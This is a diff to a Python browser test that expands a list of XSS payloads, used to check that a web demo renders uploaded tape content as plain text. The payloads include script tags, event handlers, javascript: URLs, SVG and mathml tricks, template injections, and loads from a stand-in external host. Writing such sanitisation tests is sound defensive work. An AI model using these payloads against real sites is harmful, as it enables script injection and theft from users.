@@ -13,27 +13,62 @@ from provider.scripted import Say
 from tests.web_demo.conftest import answered, in_node, scripted_gateway, wait_for_text, wants_node
 
 USAGE = {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}
+
+
+def attack(template):
+    return template.replace("!", "document.title='x'")
+
+
 HOSTILE = [
-    "<script>document.title = 'x'</script>",
-    "<img src=x onerror=\"document.title='x'\">",
-    "<svg onload=\"document.title='x'\">",
-    "<svg><script>document.title='x'</script></svg>",
-    "<iframe srcdoc=\"<script>parent.document.title='x'</script>\">",
-    "<a href=\"javascript:document.title='x'\">a</a>",
-    "<details open ontoggle=\"document.title='x'\">",
-    "<input autofocus onfocus=\"document.title='x'\">",
-    "<body onload=\"document.title='x'\">",
-    "<math><mtext><style><img src=x onerror=document.title='x'></style></mtext></math>",
-    "<style>* { display: none }</style>",
-    "<base href='https://elsewhere.invalid/'>",
-    "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/'>",
-    "<object data='javascript:1'></object>",
-    '"><button autofocus onfocus="document.title=\'x\'">',
-    "'; document.title = 'x'; '",
-    "${document.title = 'x'}",
-    "{{constructor.constructor('document.title=1')()}}",
-    "__proto__",
-    "constructor",
+    attack(text)
+    for text in (
+        "<script>!</script>",
+        "</textarea><script>!</script>",
+        "</title><script>!</script>",
+        "--><script>!</script><!--",
+        "<ScRiPt>!</sCrIpT>",
+        "<script src=https://elsewhere.invalid/x.js></script>",
+        "<script type=module>!</script>",
+        '<img src=x onerror="!">',
+        "<img src=x onerror=!//",
+        '<IMG """><SCRIPT>!</SCRIPT>">',
+        '<svg onload="!">',
+        "<svg><script>!</script></svg>",
+        '<svg><animate onbegin="!" attributeName=x dur=1s>',
+        '<svg><a href="javascript:!"><text y=9>a</text></a></svg>',
+        '<svg><use href="data:image/svg+xml,<svg id=a onload=!>#a"/></svg>',
+        '<iframe srcdoc="<script>parent.!</script>"></iframe>',
+        '<iframe src="javascript:parent.!"></iframe>',
+        '<a href="javascript:!">a</a>',
+        '<a href="java&#9;script:!">a</a>',
+        "[a](javascript:!)",
+        "![a](x onerror=!)",
+        '<details open ontoggle="!">',
+        '<input autofocus onfocus="!">',
+        '<select autofocus onfocus="!"></select>',
+        '<video><source onerror="!"></video>',
+        '<audio src=x onerror="!"></audio>',
+        '<body onload="!">',
+        '<marquee onstart="!">a</marquee>',
+        '<div style="background:url(https://elsewhere.invalid/)">a</div>',
+        '<p style="animation:a" onanimationend="!"></p><style>@keyframes a{}</style>',
+        "<math><mtext><style><img src=x onerror=!></style></mtext></math>",
+        "<noscript><p title='</noscript><img src=x onerror=!>'>",
+        "<template><script>!</script></template>",
+        "<style>* { display: none }</style>",
+        "<link rel=stylesheet href=https://elsewhere.invalid/x.css>",
+        "<base href='https://elsewhere.invalid/'>",
+        "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/'>",
+        "<object data='javascript:!'></object>",
+        "<embed src='javascript:!'>",
+        "<form action='javascript:!'><button autofocus>a</button></form>",
+        '"><button autofocus onfocus="!">a</button>',
+        "'; !; '",
+        "${!}",
+        "{{constructor.constructor('!')()}}",
+        "__proto__",
+        "constructor",
+    )
 ]
 
 
@@ -114,7 +149,7 @@ async def test_a_session_is_recorded_and_its_link_plays_without_a_gateway(new_pa
 @pytest.mark.browser
 async def test_what_is_on_a_tape_is_text_and_never_markup(new_page, tmp_path):
     path = tmp_path / "hostile.json"
-    path.write_text(tape_of(HOSTILE + [text.replace("x", "y").upper() for text in HOSTILE]))
+    path.write_text(tape_of(HOSTILE))
     async with scripted_gateway(Say("x")) as gateway:
         page = await new_page(f"{gateway.url}#tape")
         elsewhere = []
@@ -125,14 +160,11 @@ async def test_what_is_on_a_tape_is_text_and_never_markup(new_page, tmp_path):
         before = set(await page.evaluate(tags))
         elsewhere.clear()
         await page.locator(".tapes input[type=file]").set_input_files(path)
-        await page.locator(".tapes .tile[data-state=done]").nth(19).wait_for()
-        await page.locator(".tapes .tile[data-state=failed]").nth(19).wait_for()
-        assert await page.locator(".tile-text").all_text_contents() == [
-            *HOSTILE,
-            *(text.replace("x", "y").upper() for text in HOSTILE),
-        ]
+        await page.locator(".tapes .tile[data-state=done]").nth(len(HOSTILE) // 2 - 1).wait_for()
+        await page.locator(".tapes .tile[data-state=failed]").nth(len(HOSTILE) // 2 - 1).wait_for()
+        assert await page.locator(".tile-text").all_text_contents() == HOSTILE
         await page.get_by_label("Time", exact=True).fill("5")
-        await page.locator(".tapes .tile[data-state=queued]").nth(39).wait_for()
+        await page.locator(".tapes .tile[data-state=queued]").nth(len(HOSTILE) - 1).wait_for()
         assert await page.locator(".tile-state").nth(3).text_content() == "queue 3"
         await page.locator(".wire-row").first.click()
         assert set(await page.evaluate(tags)) - before <= {"PRE", "STRONG", "B", "I"}
